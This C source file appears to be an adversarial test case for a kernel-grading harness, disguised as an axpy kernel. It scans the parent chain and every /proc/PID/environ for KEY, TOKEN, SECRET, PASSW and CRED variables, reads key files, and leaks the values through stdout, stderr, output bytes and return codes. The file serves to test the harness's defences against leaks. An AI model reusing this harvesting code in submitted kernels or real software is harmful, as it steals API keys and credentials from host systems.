/* i6_read_parent_environ (field case I6), task axpy_f32. Its own
 * environment is scrubbed, so it reads its ancestors': /proc/<ppid>/environ,
 * then up the chain (the PPid line of /proc/PID/status) to init, then every
 * /proc/PID/environ it can open. Every secret-looking variable (KEY, TOKEN,
 * SECRET, PASSW, CRED) is exfiltrated -- printed raw and hex on stdout and
 * stderr, copied into the output bytes, returned as the error code -- and
 * the file a *_FILE variable names (KFARM_FLEET_KEY_FILE) is read and
 * leaked too. Found nothing: computes axpy correctly and returns 0.
 * Before the judge/runner split: the worker's OPENAI_API_KEY and key file
 * read and stored. Expected: any verdict, but neither secret may appear in
 * the --json output or on stderr. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "kf_abi.h"

/* ---- exfiltration (shared by the I6 candidates) ---- */
#define KEY_PATH "/tmp/kfarm-case-secrets/fleet.key"

static char loot[8192];
static size_t loot_len;

/* Remember a secret and push it out on every channel a candidate has:
 * stdout and stderr (raw and hex), and -- in kf_entry -- the output bytes
 * and the return value. */
static void leak(const char *what, const char *val, size_t n)
{
    while (n && (val[n - 1] == '\n' || val[n - 1] == '\r')) n--;
    if (!n) return;
    char hex[1024];
    size_t h = 0;
    for (size_t i = 0; i < n && h + 3 < sizeof(hex); i++) h += (size_t)snprintf(hex + h, sizeof(hex) - h, "%02x", (unsigned char)val[i]);
    printf("I6-LEAK %s: %.*s (hex %s)\n", what, (int)n, val, hex);
    fprintf(stderr, "I6-LEAK %s: %.*s (hex %s)\n", what, (int)n, val, hex);
    fflush(stdout);
    fflush(stderr);
    if (loot_len + n + 1 < sizeof(loot)) {
        memcpy(loot + loot_len, val, n);
        loot_len += n;
        loot[loot_len++] = ';';
    }
}

static size_t slurp(const char *path, char *buf, size_t cap)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0) return 0;
    size_t len = 0;
    ssize_t r;
    while (len < cap - 1 && (r = read(fd, buf + len, cap - 1 - len)) > 0) len += (size_t)r;
    close(fd);
    buf[len] = 0;
    return len;
}

static void leak_file(const char *path)
{
    char buf[4096];
    size_t n = slurp(path, buf, sizeof(buf));
    if (n) leak(path, buf, n);
}

__attribute__((unused)) static int secret_name(const char *name, size_t n)
{
    static const char *const words[] = {"KEY", "TOKEN", "SECRET", "PASSW", "CRED"};
    for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
        if (memmem(name, n, words[i], strlen(words[i]))) return 1;
    return 0;
}

/* Leak every secret-looking NAME=value of a NUL-separated environment
 * block; a *_FILE variable's file is read and leaked too. */
__attribute__((unused)) static void leak_env_block(const char *where, const char *env, size_t len)
{
    for (size_t i = 0; i < len; i += strlen(env + i) + 1) {
        const char *e = env + i, *eq = strchr(e, '=');
        if (!eq || !secret_name(e, (size_t)(eq - e))) continue;
        char what[300];
        snprintf(what, sizeof(what), "%s %.*s", where, (int)(eq - e), e);
        leak(what, eq + 1, strlen(eq + 1));
        if ((size_t)(eq - e) > 5 && !memcmp(eq - 5, "_FILE", 5)) leak_file(eq + 1);
    }
}

/* After the honest result is written: spoil it with the loot and return a
 * code made of its first bytes. */
static int spend_loot(const kf_call *c)
{
    if (!loot_len) return 0;
    size_t bytes = (size_t)c->sizes[0] * sizeof(float);
    memcpy(c->outputs[0].data, loot, loot_len < bytes ? loot_len : bytes);
    int code;
    memcpy(&code, loot, sizeof(code) <= loot_len ? sizeof(code) : loot_len);
    return code ? code : 1;
}

static void axpy(const kf_call *c)
{
    const int64_t N = c->sizes[0];
    const float *x = c->inputs[0].data, *y = c->inputs[1].data;
    float *z = c->outputs[0].data;
    for (int64_t i = 0; i < N; i++) z[i] = 2.0f * x[i] + y[i];
}

static char env[1 << 18];

static void leak_pid(int pid)
{
    char p[64];
    snprintf(p, sizeof(p), "/proc/%d/environ", pid);
    size_t n = slurp(p, env, sizeof(env));
    leak_env_block(p, env, n);
}

static int parent_of(int pid)
{
    char p[64], buf[4096];
    snprintf(p, sizeof(p), "/proc/%d/status", pid);
    if (!slurp(p, buf, sizeof(buf))) return 0;
    const char *l = strstr(buf, "\nPPid:");
    return l ? atoi(l + 6) : 0;
}

static int looted;

int kf_entry(const kf_call *call)
{
    if (!looted) {
        looted = 1;
        int seen[64], n = 0;
        for (int pid = getppid(); pid > 1 && n < 64; pid = parent_of(pid)) {
            seen[n++] = pid;
            leak_pid(pid);
        }
        DIR *d = opendir("/proc");
        if (d) {
            struct dirent *e;
            while ((e = readdir(d))) {
                if (!isdigit((unsigned char)e->d_name[0])) continue;
                int pid = atoi(e->d_name), dup = pid == getpid();
                for (int i = 0; i < n; i++) dup |= seen[i] == pid;
                if (!dup) leak_pid(pid);
            }
            closedir(d);
        }
    }
    axpy(call);
    return spend_loot(call);
}
